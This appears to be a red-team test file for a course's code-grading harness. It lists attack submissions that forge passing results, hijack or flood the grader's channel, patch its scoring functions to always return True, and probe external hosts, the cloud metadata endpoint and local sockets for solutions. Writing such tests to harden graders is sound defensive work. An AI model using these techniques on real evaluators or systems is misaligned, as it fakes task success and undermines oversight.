"""Attacks on the descriptors and sockets that a learner's process finds open."""

from __future__ import annotations

from tests.redteam.attack import Attack, everywhere

OPEN = """
    import os, socket, struct, sys, threading, time
    def descriptors():
        return [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]
    def put(data):
        for descriptor in descriptors():
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, data)
            except OSError:
                pass
    """

ATTACKS = [
    Attack(
        "write-everywhere",
        "Writes what looks like a good ending to every descriptor it has inherited.",
        first=OPEN
        + """
    for text in (b'{"cause": "exited", "code": 0}', b".", b"1.0", b"\\x81\\xa6points\\x03"):
        put(text + b"\\n")
    """,
    ),
    Attack(
        "close-everything",
        "Closes every descriptor.",
        answers=everywhere("import os; os.closerange(0, 4096); return 1.0", ("linear", "nll")),
    ),
    Attack(
        "replace-descriptors",
        "Puts /dev/zero in the place of every descriptor.",
        answers={
            "linear": """
                import os
                def linear(*args):
                    zero = os.open("/dev/zero", os.O_RDWR)
                    for descriptor in range(200):
                        if descriptor != zero:
                            os.dup2(zero, descriptor)
                """
        },
    ),
    Attack(
        "read-the-channel",
        "Reads whatever arrives on every descriptor, so that requests reach nobody else.",
        first=OPEN
        + """
    def drain(descriptor):
        try:
            os.set_blocking(descriptor, True)
            while os.read(descriptor, 65536):
                pass
        except OSError:
            pass
    for descriptor in descriptors():
        threading.Thread(target=drain, args=(descriptor,), daemon=True).start()
    """,
    ),
    Attack(
        "flood-the-channel",
        "Writes bytes to every descriptor without end.",
        answers={
            "linear": OPEN
            + """
    def linear(*args):
        while True:
            put(b"\\0" * 2**20)
    """
        },
    ),
    Attack(
        "huge-frame",
        "Announces a message of 2**63 bytes, and one of 2**31, and never sends it.",
        answers={
            "linear": OPEN
            + """
    def linear(*args):
        put(struct.pack(">Q", 2**63 - 1) + b"x")
        time.sleep(100)
    """,
            "nll": OPEN
            + """
    def nll(*args):
        put(struct.pack("<I", 2**31 - 1) + struct.pack(">I", 2**31 - 1) + b"x" * 9)
        time.sleep(100)
    """,
        },
    ),
    Attack(
        "forged-replies",
        "Sends replies of its own, well formed as it finds the sender in memory to be, before the "
        "true ones, so that each call gets the reply to another.",
        first=OPEN
        + """
    import gc
    def forge():
        try:
            from nbjudge import wire
        except ImportError:
            return
        for each in gc.get_objects():
            if isinstance(each, socket.socket):
                for value in (True, 1.0, {"value": True}, {"ok": True}, {"kind": "answer"},
                              {"points": 3.0}, ["answer", None, 1.0], None):
                    try:
                        wire.send(each, wire.encode(value))
                    except Exception:
                        pass
                    try:
                        wire.send(each, value)
                    except Exception:
                        pass
    """,
        answers=everywhere("forge(); return 1.0"),
    ),
    Attack(
        "replays",
        "Keeps every message that passes and sends it again, doubled, shortened and turned around.",
        first="""
            import os, socket
            try:
                from nbjudge import wire
                from nbjudge.wire import framing
                true_send = framing.send
                def send(channel, data, *args, **kwargs):
                    for again in (data, data[::-1], data[: len(data) // 2], data):
                        true_send(channel, again, *args, **kwargs)
                framing.send = wire.send = send
                import sys
                for module in list(sys.modules.values()):
                    for name, each in list(vars(module).items()):
                        if each is true_send and module is not framing:
                            setattr(module, name, send)
            except ImportError:
                pass
            """,
    ),
    Attack(
        "stolen-channel",
        "Leaves a process behind that answers on the channel in the place of those after it.",
        first=OPEN
        + """
    if os.fork() == 0:
        while True:
            for descriptor in descriptors():
                try:
                    os.set_blocking(descriptor, False)
                    got = os.read(descriptor, 65536)
                    os.write(descriptor, got)
                except OSError:
                    pass
            time.sleep(0.001)
    """,
    ),
    Attack(
        "agreeable-runner",
        "Rewrites what runs in its own process: the encoder, the conditions and the report of it.",
        first="""
            import sys
            def yes(*args, **kwargs):
                return True
            for module in list(sys.modules.values()):
                if getattr(module, "__name__", "").startswith(("nbjudge.", "nn_course.checks")):
                    for name, each in list(vars(module).items()):
                        if name in ("close", "same", "differs", "difference", "diagnose", "judge",
                                    "points", "passed", "assess", "credit", "score"):
                            setattr(module, name, yes)
            """,
    ),
    Attack(
        "network",
        "Asks servers outside, its neighbours on 127.0.0.1 and abstract sockets for the solutions.",
        first=OPEN
        + """
    socket.setdefaulttimeout(0.2)
    for place in (("1.1.1.1", 53), ("8.8.8.8", 443), ("169.254.169.254", 80), ("10.0.2.2", 80)):
        try:
            socket.create_connection(place).sendall(b"GET /solutions HTTP/1.0\\r\\n\\r\\n")
            globals()["check"] = None
        except OSError:
            pass
    for port in (22, 80, 5000, 8000, 8888, 8889, 49152):
        try:
            socket.create_connection(("127.0.0.1", port)).close()
        except OSError:
            pass
    try:
        names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line or "/" in line]
    except OSError:
        names = []
    for name in names:
        try:
            with socket.socket(socket.AF_UNIX) as other:
                other.connect(name.replace("@", "\\0", 1))
                other.sendall(b"1.0")
        except OSError:
            pass
    waiting = socket.socket(socket.AF_UNIX)
    try:
        waiting.bind("\\0" + "nbjudge")
        waiting.listen()
    except OSError:
        pass
    """,
    ),
]
